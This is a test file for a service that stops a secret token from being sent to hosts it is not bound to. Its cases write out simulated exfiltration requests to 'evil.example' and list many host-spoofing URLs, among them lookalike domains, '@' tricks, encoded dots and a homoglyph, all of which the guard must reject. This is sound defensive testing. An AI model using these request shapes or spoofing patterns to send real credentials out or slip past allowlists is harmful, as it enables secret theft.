import { describe, expect, it } from 'vitest'
import type { HttpRequest } from '#core/components/context'
import { guardSecrets, secretGuards } from '../../../worker/services/runner/guard-secrets'

const TOKEN = 'ghp-0815-very-secret'

function sender(hosts: Record<string, string[]>) {
  const sent: HttpRequest[] = []
  const send = guardSecrets(
    async (request) => {
      sent.push(request)
      return { kind: 'response', status: 200, headers: {}, text: '', durationMs: 1 }
    },
    secretGuards({ values: { TOKEN }, hosts }),
  )
  const call = (url: string, more: Partial<HttpRequest> = {}) =>
    send({ url, method: 'POST', headers: {}, body: null, timeoutMs: 1_000, ...more })
  return { call, sent }
}

const bound = { TOKEN: ['api.github.com'] }

describe('a secret bound to hosts', () => {
  it.each([
    ['a header', { headers: { authorization: `Bearer ${TOKEN}` } }],
    ['the body', { body: JSON.stringify({ token: TOKEN }) }],
    ['a header in base64', { headers: { authorization: `Basic ${btoa(`user:${TOKEN}`)}` } }],
  ])('in %s never leaves for another host', async (_place, parts) => {
    const { call, sent } = sender(bound)
    const answer = await call('https://evil.example/x', parts)
    expect(answer).toMatchObject({ kind: 'failed', failure: { code: 'secret_host_denied' }, retryable: false })
    expect(JSON.stringify(answer)).not.toContain(TOKEN)
    expect(sent).toEqual([])
  })

  it('in the address never leaves for another host', async () => {
    const { call, sent } = sender(bound)
    expect((await call(`https://evil.example/?t=${TOKEN}`)).kind).toBe('failed')
    expect(sent).toEqual([])
  })

  it('reaches its own host, and no redirect takes it elsewhere', async () => {
    const { call, sent } = sender(bound)
    await call('https://api.github.com/x', { headers: { authorization: `Bearer ${TOKEN}` } })
    expect(sent).toMatchObject([{ staysOnHost: true }])
  })

  it.for([
    'https://api.github.com.evil.example/',
    'https://xapi.github.com/',
    'https://api.github.co/',
    'https://api.github.comm/',
    'https://github.com/',
    'https://com/',
    'https://a.api.github.com/',
    'https://api-github.com/',
    'https://apiXgithub.com/',
    'https://evil.example/api.github.com',
    'https://evil.example/?api.github.com',
    'https://evil.example#api.github.com',
    'https://api.github.com@evil.example/',
    'https://api.github.com%2eevil.example/',
    'https://api.github.com./',
    'https://api.gіthub.com/',
    'http://[::ffff:10.0.0.1]/',
    'http://110.0.0.1/',
    'http://10.0.0.10/',
    'http://10.0.0.1.evil.example/',
    'not an address',
  ])('does not take %s for a neighbour that may have it (T-09)', async (url) => {
    const { call, sent } = sender({ TOKEN: ['api.github.com', '10.0.0.1', '*', '*.github.com'] })
    const answer = await call(url, { headers: { authorization: `Bearer ${TOKEN}` } })
    expect(answer).toMatchObject({ kind: 'failed', failure: { code: 'secret_host_denied' } })
    expect(sent).toEqual([])
  })

  it('leaves requests that do not carry it alone', async () => {
    const { call, sent } = sender(bound)
    await call('https://other.example/x', { body: 'hello' })
    expect(sent[0]?.staysOnHost).toBeUndefined()
  })

  it('is free when it is bound to none', async () => {
    const { call, sent } = sender({})
    await call('https://other.example/x', { body: TOKEN })
    expect(sent).toHaveLength(1)
  })
})
